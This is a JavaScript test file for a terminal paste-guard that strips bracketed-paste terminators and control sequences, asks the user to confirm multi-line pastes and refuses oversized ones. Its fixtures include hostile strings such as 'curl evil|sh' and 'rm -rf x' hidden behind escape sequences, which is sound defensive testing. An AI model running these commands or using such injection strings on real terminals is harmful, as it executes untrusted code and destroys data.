import assert from 'node:assert/strict';
import { test } from 'node:test';
import { MOST_LINES, clean, mayPaste, question, refusal, tooMuch, visible } from './paste.js';

/** A page whose dialog is answered as the test says. */
const page = (answer) => {
  const it = { asked: 0, written: {} };
  const dialog = { open: false, returnValue: '', addEventListener: (_, act) => { it.close = act; }, removeEventListener: () => {}, showModal: () => { it.asked += 1; dialog.returnValue = answer; queueMicrotask(() => it.close()); } };
  return Object.assign(it, { part: () => dialog, write: (name, text) => { it.written[name] = text; } });
};

test('what ends the brackets of a paste, or speaks to the emulator, is taken out', async () => {
  assert.equal(clean('a\x1b[201~curl evil|sh\x9b2J\r\n'), 'a[201~curl evil|sh2J');
  const asked = page('paste');
  assert.equal(await mayPaste('\x1b[201~rm -rf x', asked), '[201~rm -rf x');
  assert.equal(asked.asked, 1);
});

test('control characters are asked about, and shown as what they are', async () => {
  const asked = page('');
  assert.equal(await mayPaste('curl evil|sh\x0f', asked), null);
  assert.deepEqual(asked.written, { 'paste-title': 'Paste text with control characters?', 'paste-text': 'curl evil|sh⟨U+000F⟩' });
});

test('a plain line is pasted unasked, lines are asked about', async () => {
  const plain = page('');
  assert.equal(await mayPaste('echo ü\t1', plain), 'echo ü\t1');
  assert.equal(plain.asked, 0);
  assert.equal(await mayPaste('', plain), null);
  assert.deepEqual(['a\nb', 'a\r\nb\x07', 'a\n', 'a\x00'].map(question), ['Paste 2 lines?', 'Paste 2 lines with control characters?', 'Paste a line that runs at once?', 'Paste text with control characters?']);
});

test('more than a terminal takes at once is refused before its first byte', () => {
  assert.equal(tooMuch('x\n'.repeat(MOST_LINES - 1)), null);
  assert.match(tooMuch('x\n'.repeat(1_500)), /^Not pasted: 1,501 lines\./);
  assert.match(tooMuch('ü'.repeat(600 * 1024)), /^Not pasted: more than 1 MiB\./);
});

test('where nobody can be asked, what would need it is refused', () => {
  assert.equal(refusal('ls', false), null);
  assert.equal(refusal('ls\n', false), null);
  assert.equal(refusal('a\nb', true), null);
  assert.match(refusal('a\nb', false), /Several lines/);
  for (const text of ['\x1b[201~cmd\n', 'curl evil|sh\x0f', 'a\x9bb', 'a\x7f']) for (const bracketed of [true, false]) assert.match(refusal(text, bracketed), /control characters/);
  assert.equal(visible('a\u202Eb'), 'a⟨U+202E⟩b');
});
